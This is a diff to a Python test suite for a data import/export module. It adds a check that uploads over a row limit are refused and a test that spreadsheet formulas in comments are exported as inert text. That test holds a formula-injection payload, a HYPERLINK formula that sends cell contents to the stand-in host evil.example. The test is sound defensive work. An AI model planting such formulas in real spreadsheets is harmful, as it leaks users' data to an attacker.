@@ -1,3 +1,4 @@
+import io
 import json
 
 import pytest
@@ -93,7 +94,7 @@ def test_csv_and_xlsx_import_the_same_rows(who):
     import io
 
     sheet = load_workbook(io.BytesIO(content)).active
-    assert [c.value for c in sheet[2]][:4] == ["signed_projects", "2025Q3", code(), "6"]
+    assert [c.value for c in sheet[2]][:4] == ["signed_projects", "2025Q3", code(), 6]  # the value is a number cell
     DataValue.objects.all().delete()
     assert transfer.import_values(user=who["xy_editor"], data=content, filename="v.xlsx")["new"] == 1
     assert DataValue.objects.get().comment == "首批"
@@ -165,3 +166,33 @@ def test_an_overwrite_by_import_keeps_before_and_after_in_the_audit_history(who)
     entry = LogEntry.objects.get_for_object(value).filter(action=LogEntry.Action.UPDATE).latest("timestamp")
     assert entry.actor == who["xy_editor"]
     assert [float(x) for x in entry.changes_dict["value"]] == [12.5, 20.0]
+
+
+@pytest.mark.parametrize("fmt", ["json", "csv"])
+def test_a_file_with_more_rows_than_the_limit_is_refused_before_any_row_is_checked(who, settings, fmt):
+    settings.DUIKOU_UPLOAD_MAX_ROWS = 100
+    rows = [("signed_projects", "2025Q3", code(), str(n)) for n in range(150)]
+    data = dvs(*rows) if fmt == "json" else ("\n".join(["dataElement,period,orgUnit,value", *map(",".join, rows)]))
+    data = data if isinstance(data, bytes) else data.encode()
+    with pytest.raises(UserFacingError, match=f"「v.{fmt}」超过单次导入上限 100 行") as exc:
+        transfer.import_values(user=who["xy_editor"], data=data, filename=f"v.{fmt}")
+    assert len(exc.value.details["errors"]) == 1  # one refusal of the file, not a report on each of its rows
+    assert not DataValue.objects.exists()
+
+
+LINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击")'
+
+
+def test_a_formula_in_a_comment_is_text_in_the_exports_and_reimports_unchanged(who):
+    item = {"dataElement": "signed_projects", "period": "2025Q3", "orgUnit": code(), "value": "-3", "comment": LINK}
+    transfer.import_values(user=who["xy_editor"], data=json.dumps({"dataValues": [item]}).encode(), filename="v.json")
+    xlsx, _n, _t = transfer.export_values(DataValue.objects.all(), "xlsx")
+    cells = list(load_workbook(io.BytesIO(xlsx)).active.iter_rows(min_row=2))[0]
+    assert [(c.value, c.data_type) for c in cells[3:]] == [(-3, "n"), ("'" + LINK, "s")]  # a negative number stays one
+    text, _n, _t = transfer.export_values(DataValue.objects.all(), "csv")
+    assert (
+        text.decode("utf-8-sig").splitlines()[1].endswith(',-3,"\'=HYPERLINK(""http://evil.example/?d=""&A2,""点击"")"')
+    )
+    for data, name in ((xlsx, "v.xlsx"), (text, "v.csv")):
+        assert transfer.import_values(user=who["xy_editor"], data=data, filename=name)["unchanged"] == 1, name
+    assert DataValue.objects.get().comment == LINK
